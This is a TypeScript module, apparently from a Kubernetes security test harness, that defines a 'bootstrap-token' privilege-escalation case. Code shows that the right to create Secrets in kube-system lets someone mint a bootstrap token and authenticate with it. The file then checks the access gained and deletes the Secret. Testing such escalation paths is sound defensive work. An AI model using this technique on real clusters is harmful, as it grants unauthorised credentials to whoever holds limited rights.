import { randomBytes } from "node:crypto";
import { must, pathOf } from "../../control-plane/act.ts";
import type { Attack } from "./attack.ts";
import { getUntilAllowed, reader } from "./stage.ts";

export const attacks: Attack[] = [
  {
    edge: "bootstrap-token",
    how: "a token that is in a group which may read the Secret",
    rights: () => [{ verb: "create", resource: "secrets", namespace: "kube-system", names: [] }],
    arrange: (stage) => reader(stage, { kind: "Group", name: "system:bootstrappers" }),
    attack: async (stage) => {
      const id = randomBytes(3).toString("hex");
      const secret = randomBytes(8).toString("hex");
      const metadata = { namespace: "kube-system", name: `bootstrap-token-${id}` };
      await stage.send("POST", pathOf("Secret", "kube-system"), {
        metadata,
        type: "bootstrap.kubernetes.io/token",
        stringData: { "token-id": id, "token-secret": secret, "usage-bootstrap-authentication": "true" },
      });
      const obtained = await getUntilAllowed(stage, { token: `${id}.${secret}` });
      await must(stage.plane, "DELETE", pathOf("Secret", "kube-system", metadata.name));
      return obtained;
    },
  },
];
